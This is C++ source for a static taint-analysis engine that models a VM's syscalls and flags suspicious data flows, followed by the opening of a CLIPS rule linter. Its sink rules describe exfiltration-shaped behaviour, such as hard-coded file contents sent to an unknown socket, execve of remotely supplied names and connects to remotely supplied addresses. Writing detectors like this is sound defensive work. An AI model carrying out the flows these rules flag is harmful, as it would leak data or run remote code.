    bool valid = false;
    TVal lhs, rhs;
};

/** Name / address provenance of a file or socket resource. */
struct NameInfo
{
    NameClass cls = NameClass::Other;
    std::string name;
};

/** What the analysis knows about a descriptor-returning site. */
struct FdInfo
{
    bool isSocket = false;
    bool server = false;
    bool accepted = false;
    NameClass cls = NameClass::Other;
    std::string name;
};

int
classRank(NameClass c)
{
    switch (c) {
    case NameClass::Other:
        return 0;
    case NameClass::Hard:
        return 1;
    case NameClass::User:
        return 2;
    case NameClass::Remote:
        return 3;
    }
    return 0;
}

/** A `[start, end)` range some input source writes into. */
struct InputRegion
{
    uint32_t start = 0;
    uint32_t end = 0;
    uint32_t taint = 0;
};

/** Interprocedural summary state of one function. */
struct FuncState
{
    bool hasIn = false;
    TState in;              //!< join over call-site states
    bool hasOut = false;
    TState out;             //!< join over ret-site states
    std::set<uint32_t> callers;
};

/** Shared abstract machine + the two exploration drivers. */
class TaintEngine
{
  public:
    explicit TaintEngine(const Cfg &cfg)
        : cfg_(cfg), image_(*cfg.image)
    {
    }

    TaintResult run(TaintStrategy strategy);

  private:
    // -- shared transfer function ---------------------------------
    void applyInsn(TState &s, const Instruction &insn, uint32_t addr);
    bool modelSyscall(TState &s, uint32_t addr);
    TVal loadFrom(const TState &s, uint32_t at, bool byteWide) const;

    // -- provenance classification --------------------------------
    NameInfo classifyName(const TVal &ptr) const;
    uint32_t regionTaintAt(uint32_t addr) const;
    uint32_t regionTaintSpan(uint32_t start, uint32_t end) const;
    uint32_t globalTaintSpan(uint32_t start, uint32_t end) const;
    bool inInitializedData(uint32_t addr) const;
    std::string dataStr(uint32_t addr) const;
    uint32_t sockTaint(const FdInfo &fi) const;

    // -- global table mutation (accumulated across passes) --------
    void addRegion(uint32_t start, uint32_t end, uint32_t taint);
    void noteGlobalStore(uint32_t addr, uint32_t taint);
    FdInfo &fdAt(uint32_t site, bool is_socket);
    void raiseFdClass(FdInfo &fi, const NameInfo &ni);

    // -- sinks ----------------------------------------------------
    void sinkData(uint32_t addr, const char *syscall,
                  const FdInfo &target, const TVal &data,
                  const TVal &len);
    void recordSink(uint32_t addr, const char *syscall, int warn,
                    uint32_t mask, std::string target,
                    std::string detail);
    static int warnFor(uint32_t mask, const FdInfo &target);

    // -- summary engine -------------------------------------------
    void runSummary();
    void analyzeFunction(uint32_t fentry, bool collect);
    void joinCallee(uint32_t target, const TState &s,
                    uint32_t caller);
    TState entryState() const;

    // -- naive path oracle ----------------------------------------
    void runNaive();
    void explorePath(uint32_t pc, TState s, TFlags flags,
                     std::vector<uint32_t> retStack,
                     std::map<uint32_t, int> visits, bool collect,
                     uint64_t &steps, int depth);

    const Cfg &cfg_;
    const vm::Image &image_;

    std::map<uint32_t, FdInfo> fds_;
    std::vector<InputRegion> regions_;
    std::map<uint32_t, uint32_t> globalTaint_;
    bool tablesChanged_ = false;

    std::map<uint32_t, FuncState> funcs_;
    std::deque<uint32_t> pending_;

    /** Worklist membership stamps, indexed by pc/INSN_SIZE; an entry
     * is queued when its stamp equals the current generation. One
     * generation per analyzeFunction call avoids clearing. */
    std::vector<uint32_t> wlStamp_;
    uint32_t wlGen_ = 0;

    std::map<std::pair<uint32_t, std::string>, TaintSink> sinks_;
    TaintStats stats_;
};

uint32_t
TaintEngine::regionTaintAt(uint32_t addr) const
{
    uint32_t t = 0;
    for (const InputRegion &r : regions_)
        if (addr >= r.start && addr < r.end)
            t |= r.taint;
    return t;
}

uint32_t
TaintEngine::regionTaintSpan(uint32_t start, uint32_t end) const
{
    uint32_t t = 0;
    for (const InputRegion &r : regions_)
        if (start < r.end && r.start < end)
            t |= r.taint;
    return t;
}

uint32_t
TaintEngine::globalTaintSpan(uint32_t start, uint32_t end) const
{
    uint32_t t = 0;
    for (auto it = globalTaint_.lower_bound(start);
         it != globalTaint_.end() && it->first < end; ++it)
        t |= it->second;
    return t;
}

bool
TaintEngine::inInitializedData(uint32_t addr) const
{
    uint32_t base = image_.dataOffset();
    return addr >= base && addr < base + image_.data.size();
}

std::string
TaintEngine::dataStr(uint32_t addr) const
{
    if (!inInitializedData(addr))
        return "";
    std::string out;
    for (uint32_t i = addr - image_.dataOffset();
         i < image_.data.size() && out.size() < 64; ++i) {
        char c = (char)image_.data[i];
        if (c == '\0')
            break;
        out += (c >= 0x20 && c < 0x7f) ? c : '.';
    }
    return out;
}

NameInfo
TaintEngine::classifyName(const TVal &ptr) const
{
    uint32_t t = ptr.taint;
    std::string hard_name;
    if (ptr.isAddr()) {
        // A short scan suffices: names are NUL-terminated strings.
        // An input region that starts *after* the pointer is a
        // separate buffer that happens to sit next in the data
        // section, not part of this name — stop the scan there, or
        // every string adjacent to a read buffer would inherit its
        // taint.
        uint32_t end = ptr.v + 32;
        for (const InputRegion &r : regions_)
            if (r.start > ptr.v && r.start < end)
                end = r.start;
        t |= regionTaintSpan(ptr.v, end);
        t |= globalTaintSpan(ptr.v, end);
        hard_name = dataStr(ptr.v);
    }

    NameInfo ni;
    if (t & SOCK_BITS) {
        ni.cls = NameClass::Remote;
        ni.name = "<received>";
    } else if (t & (T_STDIN | T_ARGV)) {
        ni.cls = NameClass::User;
        ni.name = "<user>";
    } else if (t & (FILE_BITS | T_HARDWARE)) {
        ni.cls = NameClass::Other;
        ni.name = "<derived>";
    } else if (ptr.isAddr() && inInitializedData(ptr.v)) {
        ni.cls = NameClass::Hard;
        ni.name = hard_name;
    } else {
        ni.cls = NameClass::Other;
        ni.name = "<unknown>";
    }
    return ni;
}

uint32_t
TaintEngine::sockTaint(const FdInfo &fi) const
{
    if (fi.accepted)
        return fi.cls == NameClass::Hard     ? T_SOCK_SRV_HARD
               : fi.cls == NameClass::User   ? T_SOCK_USER
               : fi.cls == NameClass::Remote ? T_SOCK_REMOTE
                                             : T_SOCK_OTHER;
    switch (fi.cls) {
    case NameClass::Hard:
        return T_SOCK_HARD;
    case NameClass::User:
        return T_SOCK_USER;
    case NameClass::Remote:
        return T_SOCK_REMOTE;
    case NameClass::Other:
        return T_SOCK_OTHER;
    }
    return T_SOCK_OTHER;
}

void
TaintEngine::addRegion(uint32_t start, uint32_t end, uint32_t taint)
{
    if (start >= end || taint == 0)
        return;
    for (InputRegion &r : regions_) {
        if (r.start == start && r.end == end) {
            if ((r.taint | taint) != r.taint) {
                r.taint |= taint;
                tablesChanged_ = true;
            }
            return;
        }
    }
    regions_.push_back({start, end, taint});
    tablesChanged_ = true;
}

void
TaintEngine::noteGlobalStore(uint32_t addr, uint32_t taint)
{
    if (taint == 0)
        return;
    uint32_t &cell = globalTaint_[addr];
    if ((cell | taint) != cell) {
        cell |= taint;
        tablesChanged_ = true;
    }
}

FdInfo &
TaintEngine::fdAt(uint32_t site, bool is_socket)
{
    auto it = fds_.find(site);
    if (it == fds_.end()) {
        tablesChanged_ = true;
        it = fds_.emplace(site, FdInfo{}).first;
        it->second.isSocket = is_socket;
    }
    return it->second;
}

void
TaintEngine::raiseFdClass(FdInfo &fi, const NameInfo &ni)
{
    if (classRank(ni.cls) > classRank(fi.cls)) {
        fi.cls = ni.cls;
        fi.name = ni.name;
        tablesChanged_ = true;
    } else if (fi.name.empty() && !ni.name.empty()) {
        fi.name = ni.name;
    }
}

TVal
TaintEngine::loadFrom(const TState &s, uint32_t at,
                      bool byteWide) const
{
    auto it = s.mem.find(at);
    if (it != s.mem.end())
        return it->second;
    uint32_t t = regionTaintAt(at);
    auto git = globalTaint_.find(at);
    if (git != globalTaint_.end())
        t |= git->second;
    if (t != 0)
        return unknownT(t);
    if (byteWide && inInitializedData(at))
        return {TVal::Const, image_.data[at - image_.dataOffset()],
                0};
    if (!byteWide && inInitializedData(at) &&
        inInitializedData(at + 3)) {
        uint32_t base = at - image_.dataOffset();
        uint32_t w = 0;
        for (int i = 3; i >= 0; --i)
            w = (w << 8) | image_.data[base + i];
        return {TVal::Const, w, 0};
    }
    return unknownT();
}

void
TaintEngine::applyInsn(TState &s, const Instruction &insn,
                       uint32_t addr)
{
    uint32_t idx = addr / INSN_SIZE;
    bool relocated = cfg_.relocatedIndices.count(idx) != 0;
    TVal a = s.regs[(size_t)insn.r1];
    TVal b = s.regs[(size_t)insn.r2];
    auto set = [&](Reg r, TVal v) { s.regs[(size_t)r] = v; };

    auto foldBin = [&](auto op) -> TVal {
        uint32_t t = a.taint | b.taint;
        if (a.k == TVal::Const && b.k == TVal::Const)
            return {TVal::Const, op(a.v, b.v), t};
        return unknownT(t);
    };
    auto addImm = [&](const TVal &base, int32_t imm) -> TVal {
        if (base.isAddr())
            return {base.k, base.v + (uint32_t)imm, base.taint};
        return unknownT(base.taint);
    };

    switch (insn.op) {
    case Opcode::MovRR:
        set(insn.r1, b);
        break;
    case Opcode::MovRI:
        set(insn.r1, {relocated ? TVal::DataAddr : TVal::Const,
                      (uint32_t)insn.imm, 0});
        break;
    case Opcode::Lea:
        set(insn.r1, addImm(b, insn.imm));
        break;
    case Opcode::Load:
    case Opcode::LoadB:
        if (b.isAddr()) {
            TVal v = loadFrom(s, b.v + (uint32_t)insn.imm,
                              insn.op == Opcode::LoadB);
            v.taint |= b.taint;
            set(insn.r1, v);
        } else {
            // Pointer taint flows to the loaded value: a deref
            // through an argv-derived pointer yields argv data.
            set(insn.r1, unknownT(b.taint));
        }
        break;
    case Opcode::Store:
    case Opcode::StoreB:
        if (b.isAddr()) {
            uint32_t at = b.v + (uint32_t)insn.imm;
            if (a.trivial())
                s.mem.erase(at);
            else
                s.mem[at] = a;
            noteGlobalStore(at, a.taint);
        }
        // Stores through unknown pointers are dropped: inventing a
        // flow here would poison every clean image.
        break;
    case Opcode::Push:
    case Opcode::PushI:
        break;
    case Opcode::Pop:
        set(insn.r1, unknownT());
        break;
    case Opcode::Add:
        if (a.k == TVal::DataAddr && b.k == TVal::Const)
            set(insn.r1,
                {TVal::DataAddr, a.v + b.v, a.taint | b.taint});
        else if (a.k == TVal::Const && b.k == TVal::DataAddr)
            set(insn.r1,
                {TVal::DataAddr, a.v + b.v, a.taint | b.taint});
        else
            set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                    return x + y;
                }));
        break;
    case Opcode::AddI:
        set(insn.r1, addImm(a, insn.imm));
        break;
    case Opcode::Sub:
        set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                return x - y;
            }));
        break;
    case Opcode::And:
        set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                return x & y;
            }));
        break;
    case Opcode::Or:
        set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                return x | y;
            }));
        break;
    case Opcode::Xor:
        if (insn.r1 == insn.r2)
            set(insn.r1, {TVal::Const, 0, 0});
        else
            set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                    return x ^ y;
                }));
        break;
    case Opcode::Mul:
        set(insn.r1, foldBin([](uint32_t x, uint32_t y) {
                return x * y;
            }));
        break;
    case Opcode::Shl:
        set(insn.r1, a.k == TVal::Const
                         ? TVal{TVal::Const,
                                a.v << (insn.imm & 31), a.taint}
                         : unknownT(a.taint));
        break;
    case Opcode::Shr:
        set(insn.r1, a.k == TVal::Const
                         ? TVal{TVal::Const,
                                a.v >> (insn.imm & 31), a.taint}
                         : unknownT(a.taint));
        break;
    case Opcode::CpuId:
        set(Reg::Eax, unknownT(T_HARDWARE));
        set(Reg::Ebx, unknownT(T_HARDWARE));
        set(Reg::Ecx, unknownT(T_HARDWARE));
        set(Reg::Edx, unknownT(T_HARDWARE));
        break;
    case Opcode::Native:
        // cdecl contract; native results are treated as clean (an
        // under-approximation, same as the dynamic monitor's
        // library-call policy).
        set(Reg::Eax, unknownT());
        set(Reg::Ecx, unknownT());
        set(Reg::Edx, unknownT());
        break;
    default:
        break;
    }
}

int
TaintEngine::warnFor(uint32_t mask, const FdInfo &target)
{
    bool th = target.cls == NameClass::Hard;
    bool tu = target.cls == NameClass::User;
    bool tr = target.cls == NameClass::Remote;
    int warn = 0;
    auto up = [&](int w) { warn = std::max(warn, w); };

    // Mirror of §4.3 (workloads/Micro.cc expectedOutcome).
    if (mask & T_BINARY)
        if (th)
            up(target.isSocket ? 1 : 3);
    if (mask & (T_HARDWARE | T_STDIN))
        if (th)
            up(3);
    if (mask & T_FILE_HARD) {
        if (tu)
            up(1);
        if (th)
            up(3);
        // Hard-coded file contents leaving on a socket of unknown
        // provenance: exfiltration shape (pwsafe trojan).
        if (target.isSocket && target.cls == NameClass::Other)
            up(1);
    }
    if (mask & T_FILE_USER)
        if (th)
            up(1);
    if (mask & T_FILE_REMOTE)
        up(3);
    if (mask & T_SOCK_HARD) {
        if (tu)
            up(1);
        if (th)
            up(3);
    }
    if (mask & T_SOCK_USER)
        if (th)
            up(1);
    if (mask & T_SOCK_REMOTE)
        up(3);
    if (mask & T_SOCK_SRV_HARD)
        up(3);
    if (tr)
        up(3);
    if (target.isSocket && target.server &&
        target.cls == NameClass::Hard)
        up(3);
    return warn;
}

void
TaintEngine::recordSink(uint32_t addr, const char *syscall, int warn,
                        uint32_t mask, std::string target,
                        std::string detail)
{
    auto key = std::make_pair(addr, std::string(syscall));
    auto it = sinks_.find(key);
    if (it == sinks_.end()) {
        TaintSink sink;
        sink.address = addr;
        sink.syscall = syscall;
        sink.warn = warn;
        sink.sourceMask = mask;
        sink.target = std::move(target);
        sink.detail = std::move(detail);
        sinks_.emplace(std::move(key), std::move(sink));
        return;
    }
    it->second.sourceMask |= mask;
    if (warn > it->second.warn) {
        it->second.warn = warn;
        it->second.target = std::move(target);
        it->second.detail = std::move(detail);
    }
}

void
TaintEngine::sinkData(uint32_t addr, const char *syscall,
                      const FdInfo &target, const TVal &data,
                      const TVal &len)
{
    if (!data.isAddr())
        return;
    uint32_t span =
        len.k == TVal::Const ? std::min<uint32_t>(len.v, 4096) : 64;
    uint32_t start = data.v, end = data.v + span;
    uint32_t mask =
        regionTaintSpan(start, end) | globalTaintSpan(start, end);
    if (mask == 0) {
        uint32_t dbase = image_.dataOffset();
        if (start < dbase + image_.data.size() && end > dbase)
            mask = T_BINARY;
    }
    if (mask == 0)
        return;
    int warn = warnFor(mask, target);
    if (warn == 0)
        return;
    std::ostringstream os;
    os << taintMaskName(mask) << " data reaches "
       << (target.isSocket ? "socket" : "file") << " "
       << nameClassName(target.cls);
    if (target.server)
        os << " (server)";
    if (!target.name.empty())
        os << " \"" << target.name << "\"";
    recordSink(addr, syscall, warn, mask, target.name, os.str());
}

/**
 * Interpret an `int 0x80`. Returns true when the syscall terminates
 * the path (exit). Sinks are recorded on every sweep into a table
 * the caller clears per pass; the converged pass's records are
 * exactly what a separate collection sweep would produce, and the
 * (addr, syscall) dedup key absorbs re-analysis within a pass.
 */
bool
TaintEngine::modelSyscall(TState &s, uint32_t addr)
{
    TVal nr = s.regs[(size_t)Reg::Eax];
    TVal ebx = s.regs[(size_t)Reg::Ebx];
    TVal ecx = s.regs[(size_t)Reg::Ecx];
    TVal edx = s.regs[(size_t)Reg::Edx];
    auto setEax = [&](TVal v) { s.regs[(size_t)Reg::Eax] = v; };

    if (nr.k != TVal::Const) {
        setEax(unknownT());
        return false;
    }

    auto fdTarget = [&](const TVal &fd, FdInfo &out) -> bool {
        if (fd.k == TVal::Const)
            return false;   // fds 0..2: stdout is never a sink
        if (fd.k == TVal::Fd) {
            auto it = fds_.find(fd.v);
            if (it == fds_.end())
                return false;
            out = it->second;
            return true;
        }
        return false;
    };

    switch (nr.v) {
    case os::NR_exit:
        return true;

    case os::NR_read: {
        uint32_t t = 0;
        if (ebx.k == TVal::Const) {
            if (ebx.v == 0)
                t = T_STDIN;
        } else if (ebx.k == TVal::Fd) {
            auto it = fds_.find(ebx.v);
            if (it != fds_.end()) {
                const FdInfo &fi = it->second;
                if (fi.isSocket)
                    t = sockTaint(fi);
                else
                    switch (fi.cls) {
                    case NameClass::Hard:
                        t = T_FILE_HARD;
                        break;
                    case NameClass::User:
                        t = T_FILE_USER;
                        break;
                    case NameClass::Remote:
                        t = T_FILE_REMOTE;
                        break;
                    case NameClass::Other:
                        t = T_FILE_OTHER;
                        break;
                    }
            }
        } else {
            t = T_FILE_OTHER;
        }
        if (t && ecx.isAddr()) {
            uint32_t n =
                edx.k == TVal::Const ? std::min<uint32_t>(edx.v, 4096)
                                     : 64;
            addRegion(ecx.v, ecx.v + n, t);
        }
        // The returned *length* of tainted data is not itself
        // tainted (matches the dynamic propagation policy).
        setEax(unknownT());
        return false;
    }

    case os::NR_open:
    case os::NR_creat: {
        NameInfo ni = classifyName(ebx);
        FdInfo &fi = fdAt(addr, false);
        raiseFdClass(fi, ni);
        setEax({TVal::Fd, addr, 0});
        return false;
    }

    case os::NR_write: {
        FdInfo target;
        if (fdTarget(ebx, target))
            sinkData(addr, "SYS_write", target, ecx, edx);
        setEax(unknownT());
        return false;
    }

    case os::NR_execve: {
        NameInfo ni = classifyName(ebx);
        if (ni.cls == NameClass::Remote)
            recordSink(addr, "SYS_execve", 3, ebx.taint | SOCK_BITS,
                       ni.name,
                       "execve of a remotely supplied name");
        else if (ni.cls == NameClass::Hard)
            recordSink(addr, "SYS_execve", 1, T_BINARY, ni.name,
                       "execve of hard-coded \"" + ni.name + "\"");
        setEax(unknownT());
        return false;
    }

    case os::NR_socketcall: {
        uint32_t op = ebx.k == TVal::Const ? ebx.v : 0;
        auto argWord = [&](uint32_t i) -> TVal {
            if (!ecx.isAddr())
                return unknownT();
            auto it = s.mem.find(ecx.v + i * 4);
            return it == s.mem.end() ? unknownT() : it->second;
        };
        switch (op) {
        case os::SOCKOP_socket:
            fdAt(addr, true);
            setEax({TVal::Fd, addr, 0});
            return false;
        case os::SOCKOP_connect: {
            TVal fd = argWord(0), aptr = argWord(1);
            NameInfo ni = classifyName(aptr);
            if (fd.k == TVal::Fd)
                raiseFdClass(fdAt(fd.v, true), ni);
            if (ni.cls == NameClass::Remote)
                recordSink(addr, "SYS_connect", 3,
                           aptr.taint | regionTaintAt(
                                            aptr.isAddr() ? aptr.v
                                                          : 0),
                           ni.name,
                           "connect to a remotely supplied address");
            setEax(unknownT());
            return false;
        }
        case os::SOCKOP_bind: {
            TVal fd = argWord(0), aptr = argWord(1);
            if (fd.k == TVal::Fd)
                raiseFdClass(fdAt(fd.v, true), classifyName(aptr));
            setEax(unknownT());
            return false;
        }
        case os::SOCKOP_listen: {
            TVal fd = argWord(0);
            if (fd.k == TVal::Fd) {
                FdInfo &fi = fdAt(fd.v, true);
                if (!fi.server) {
                    fi.server = true;
                    tablesChanged_ = true;
                }
            }
            setEax(unknownT());
            return false;
        }
        case os::SOCKOP_accept: {
            TVal fd = argWord(0);
            FdInfo &conn = fdAt(addr, true);
            conn.server = true;
            if (!conn.accepted) {
                conn.accepted = true;
                tablesChanged_ = true;
            }
            if (fd.k == TVal::Fd) {
                const FdInfo &listener = fdAt(fd.v, true);
                raiseFdClass(conn,
                             {listener.cls, listener.name});
            }
            setEax({TVal::Fd, addr, 0});
            return false;
        }
        case os::SOCKOP_send: {
            TVal fd = argWord(0);
            FdInfo target;
            if (fdTarget(fd, target))
                sinkData(addr, "SYS_send", target, argWord(1),
                         argWord(2));
            setEax(unknownT());
            return false;
        }
        case os::SOCKOP_recv: {
            TVal fd = argWord(0);
            uint32_t t = T_SOCK_OTHER;
            if (fd.k == TVal::Fd) {
                auto it = fds_.find(fd.v);
                if (it != fds_.end())
                    t = sockTaint(it->second);
            }
            TVal buf = argWord(1), len = argWord(2);
            if (buf.isAddr()) {
                uint32_t n = len.k == TVal::Const
                                 ? std::min<uint32_t>(len.v, 4096)
                                 : 64;
                addRegion(buf.v, buf.v + n, t);
            }
            setEax(unknownT());
            return false;
        }
        default:
            setEax(unknownT());
            return false;
        }
    }

    default:
        setEax(unknownT());
        return false;
    }
}

TState
TaintEngine::entryState() const
{
    TState s;
    // Process entry: EBX = argv, ECX = environment.
    s.regs[(size_t)Reg::Ebx] = unknownT(T_ARGV);
    s.regs[(size_t)Reg::Ecx] = unknownT(T_ARGV);
    return s;
}

void
TaintEngine::joinCallee(uint32_t target, const TState &s,
                        uint32_t caller)
{
    FuncState &cs = funcs_[target];
    cs.callers.insert(caller);
    if (!cs.hasIn) {
        cs.in = s;
        cs.hasIn = true;
        pending_.push_back(target);
        return;
    }
    if (joinInto(cs.in, s))
        pending_.push_back(target);
}

void
TaintEngine::analyzeFunction(uint32_t fentry, bool collect)
{
    const BasicBlock *ebb = cfg_.blockAt(fentry);
    if (!ebb)
        return;
    FuncState &fs = funcs_[fentry];
    if (!collect)
        ++stats_.functionsSummarized;

    std::map<uint32_t, TState> bin;
    bin[ebb->start] = fs.in;
    std::deque<uint32_t> wl{ebb->start};
    if (wlStamp_.size() < cfg_.text.size())
        wlStamp_.resize(cfg_.text.size(), 0);
    uint32_t gen = ++wlGen_;
    wlStamp_[ebb->start / INSN_SIZE] = gen;
    size_t budget = cfg_.blocks.size() * 64 + 256;
    bool haveOut = false;
    TState outAcc;

    auto enqueue = [&](uint32_t succ) {
        uint32_t &stamp = wlStamp_[succ / INSN_SIZE];
        if (stamp != gen) {
            stamp = gen;
            wl.push_back(succ);
        }
    };
    auto flow = [&](uint32_t succ, const TState &o) {
        if (succ / INSN_SIZE >= cfg_.text.size())
            return;
        auto it = bin.find(succ);
        if (it == bin.end()) {
            bin.emplace(succ, o);
            enqueue(succ);
            return;
        }
        if (joinInto(it->second, o))
            enqueue(succ);
    };

    while (!wl.empty() && budget-- > 0) {
        uint32_t start = wl.front();
        wl.pop_front();
        wlStamp_[start / INSN_SIZE] = 0;
        auto bit = cfg_.blocks.find(start);
        if (bit == cfg_.blocks.end())
            continue;
        const BasicBlock &bb = bit->second;

        TState s = bin.find(start)->second;
        bool terminated = false;
        for (uint32_t addr = bb.start; addr < bb.end;
             addr += INSN_SIZE) {
            const Instruction &insn = cfg_.insnAt(addr);
            if (insn.op == Opcode::Int80) {
                if (modelSyscall(s, addr)) {
                    terminated = true;
                    break;
                }
            } else {
                applyInsn(s, insn, addr);
            }
        }
        if (terminated)
            continue;

        const Instruction &last = cfg_.insnAt(bb.end - INSN_SIZE);
        if (last.op == Opcode::Call) {
            uint32_t tgt = (uint32_t)last.imm;
            if (!collect)
                joinCallee(tgt, s, fentry);
            TState after;
            auto cit = funcs_.find(tgt);
            if (cit != funcs_.end() && cit->second.hasOut) {
                after = cit->second.out;
            } else {
                after = s;
                after.regs[(size_t)Reg::Eax] = unknownT();
                after.regs[(size_t)Reg::Ecx] = unknownT();
                after.regs[(size_t)Reg::Edx] = unknownT();
            }
            const BasicBlock *tb = cfg_.blockAt(tgt);
            uint32_t tstart = tb ? tb->start : tgt;
            for (uint32_t succ : bb.succs)
                if (succ != tstart)
                    flow(succ, after);
        } else if (last.op == Opcode::CallSym ||
                   last.op == Opcode::CallR) {
            TState after = s;
            after.regs[(size_t)Reg::Eax] = unknownT();
            after.regs[(size_t)Reg::Ecx] = unknownT();
            after.regs[(size_t)Reg::Edx] = unknownT();
            for (uint32_t succ : bb.succs)
                flow(succ, after);
        } else if (last.op == Opcode::Ret) {
            if (!haveOut) {
                outAcc = s;
                haveOut = true;
            } else {
                joinInto(outAcc, s);
            }
        } else {
            for (uint32_t succ : bb.succs)
                flow(succ, s);
        }
    }

    if (collect)
        return;

    if (haveOut &&
        (!fs.hasOut || !(outAcc == fs.out))) {
        fs.out = std::move(outAcc);
        fs.hasOut = true;
        for (uint32_t c : fs.callers)
            pending_.push_back(c);
    }
}

void
TaintEngine::runSummary()
{
    uint32_t entry = image_.entry;
    if (!cfg_.blockAt(entry))
        return;
    FuncState &ef = funcs_[entry];
    ef.hasIn = true;
    ef.in = entryState();

    bool converged = false;
    bool passComplete = false;
    for (int pass = 0; pass < 8; ++pass) {
        tablesChanged_ = false;
        // Sinks are re-recorded from scratch every pass: the pass
        // that finds the tables stable runs over converged states,
        // so its records ARE the collection and no separate sweep
        // is needed on top of the confirmation pass.
        sinks_.clear();
        pending_.clear();
        for (const auto &[fe, fs] : funcs_)
            if (fs.hasIn)
                pending_.push_back(fe);
        size_t budget =
            64 + funcs_.size() * 32 + cfg_.blocks.size() * 8;
        while (!pending_.empty() && budget-- > 0) {
            uint32_t fe = pending_.front();
            pending_.pop_front();
            if (!funcs_[fe].hasIn)
                continue;
            analyzeFunction(fe, false);
        }
        passComplete = pending_.empty();
        if (!tablesChanged_) {
            converged = true;
            break;
        }
    }

    // Fallback collection sweep — only when the pass cap or the
    // work budget cut the loop short of a clean confirmation pass.
    if (!converged || !passComplete) {
        sinks_.clear();
        for (const auto &[fe, fs] : funcs_)
            if (fs.hasIn)
                analyzeFunction(fe, true);
    }
}

void
TaintEngine::explorePath(uint32_t pc, TState s, TFlags flags,
                         std::vector<uint32_t> retStack,
                         std::map<uint32_t, int> visits,
                         bool collect, uint64_t &steps, int depth)
{
    constexpr uint64_t MAX_STEPS = 300000;
    constexpr int MAX_BLOCK_VISITS = 4;
    constexpr int MAX_CALL_DEPTH = 16;
    constexpr int MAX_FORK_DEPTH = 64;

    while (true) {
        if (++steps > MAX_STEPS)
            break;
        if (pc >= cfg_.textSize())
            break;
        if (cfg_.blocks.count(pc) &&
            ++visits[pc] > MAX_BLOCK_VISITS)
            break;

        const Instruction &insn = cfg_.insnAt(pc);
        uint32_t next = pc + INSN_SIZE;
        switch (insn.op) {
        case Opcode::Halt:
            goto done;
        case Opcode::Jmp:
            next = (uint32_t)insn.imm;
            break;
        case Opcode::Jz:
        case Opcode::Jnz:
        case Opcode::Jl:
        case Opcode::Jge: {
            uint32_t tgt = (uint32_t)insn.imm;
            if (flags.valid && flags.lhs.k == TVal::Const &&
                flags.rhs.k == TVal::Const) {
                bool zf = flags.lhs.v == flags.rhs.v;
                bool sf = (int32_t)(flags.lhs.v - flags.rhs.v) < 0;
                bool taken = insn.op == Opcode::Jz    ? zf
                             : insn.op == Opcode::Jnz ? !zf
                             : insn.op == Opcode::Jl  ? sf
                                                      : !sf;
                if (taken)
                    next = tgt;
            } else if (depth < MAX_FORK_DEPTH) {
                explorePath(tgt, s, flags, retStack, visits,
                            collect, steps, depth + 1);
                // fall through on this path
            } else {
                goto done;
            }
            break;
        }
        case Opcode::Cmp:
            flags = {true, s.regs[(size_t)insn.r1],
                     s.regs[(size_t)insn.r2]};
            break;
        case Opcode::CmpI:
            flags = {true, s.regs[(size_t)insn.r1],
                     {TVal::Const, (uint32_t)insn.imm, 0}};
            break;
        case Opcode::Call:
            if ((int)retStack.size() < MAX_CALL_DEPTH) {
                retStack.push_back(next);
                next = (uint32_t)insn.imm;
            } else {
                s.regs[(size_t)Reg::Eax] = unknownT();
                s.regs[(size_t)Reg::Ecx] = unknownT();
                s.regs[(size_t)Reg::Edx] = unknownT();
            }
            break;
        case Opcode::CallSym:
        case Opcode::CallR:
        case Opcode::Native:
            s.regs[(size_t)Reg::Eax] = unknownT();
            s.regs[(size_t)Reg::Ecx] = unknownT();
            s.regs[(size_t)Reg::Edx] = unknownT();
            break;
        case Opcode::Ret:
            if (retStack.empty())
                goto done;
            next = retStack.back();
            retStack.pop_back();
            break;
        case Opcode::Int80:
            if (modelSyscall(s, pc))
                goto done;
            break;
        default:
            applyInsn(s, insn, pc);
            break;
        }
        pc = next;
    }
done:
    if (!collect)
        ++stats_.pathsExplored;
}

void
TaintEngine::runNaive()
{
    if (!cfg_.blockAt(image_.entry))
        return;
    // Pass 1 accumulates the global tables (regions, descriptor
    // classes, tainted stores); pass 2 records sinks against the
    // full tables so path order cannot matter. Sinks recorded
    // during pass 1 are discarded with the reset below.
    for (int collect = 0; collect < 2; ++collect) {
        sinks_.clear();
        uint64_t steps = 0;
        explorePath(image_.entry, entryState(), TFlags{}, {}, {},
                    collect == 1, steps, 0);
    }
}

TaintResult
TaintEngine::run(TaintStrategy strategy)
{
    if (strategy == TaintStrategy::Summary)
        runSummary();
    else
        runNaive();

    TaintResult out;
    out.stats = stats_;
    for (auto &[key, sink] : sinks_)
        out.sinks.push_back(sink);
    std::sort(out.sinks.begin(), out.sinks.end(),
              [](const TaintSink &a, const TaintSink &b) {
                  return std::tie(a.address, a.syscall) <
                         std::tie(b.address, b.syscall);
              });
    return out;
}

} // namespace

TaintResult
runTaint(const Cfg &cfg, TaintStrategy strategy)
{
    if (!cfg.image)
        return {};
    TaintEngine engine(cfg);
    return engine.run(strategy);
}

} // namespace hth::analysis
