#include "analysis/Lint.hh"

#include <map>
#include <set>
#include <sstream>

#include "clips/Sexpr.hh"
#include "support/Logging.hh"

namespace hth::analysis
{

using clips::Sexpr;

namespace
{

/** One LHS pattern: template name + slot constraints. */
struct Pattern
{
    std::string tmpl;
    // Slot name -> constraint value list (usually one element).
    std::map<std::string, std::vector<const Sexpr *>> slots;
};

struct RuleInfo
{
    std::string name;
    std::vector<Pattern> patterns;
    bool hasTestOrNot = false;
    std::set<std::string> bound;        //!< LHS-bound variables
    std::vector<const Sexpr *> rhs;

    /** Positive patterns in LHS order with the variables each
     * mentions — the join order the beta network will use. */
    struct JoinPattern
    {
        std::string tmpl;
        std::set<std::string> vars;
    };
    std::vector<JoinPattern> joinOrder;
    std::set<std::string> posBound;     //!< bound by positive patterns
    /** Variables whose first occurrence sits inside a `not` CE,
     * keyed to the negated pattern's template name. */
    std::map<std::string, std::string> negFirstBound;
};

class Linter
{
  public:
    std::vector<LintIssue> lint(const std::string &source);

  private:
    void error(const std::string &construct, std::string msg)
    {
        issues_.push_back(
            {LintIssue::Severity::Error, construct, std::move(msg)});
    }
    void warn(const std::string &construct, std::string msg)
    {
        issues_.push_back({LintIssue::Severity::Warning, construct,
                           std::move(msg)});
    }

    void collectTemplate(const Sexpr &form);
    void collectRule(const Sexpr &form);
    void collectPattern(const Sexpr &form, RuleInfo &rule,
                        bool positive);
    void checkSlots(const Sexpr &pattern,
                    const std::string &construct);
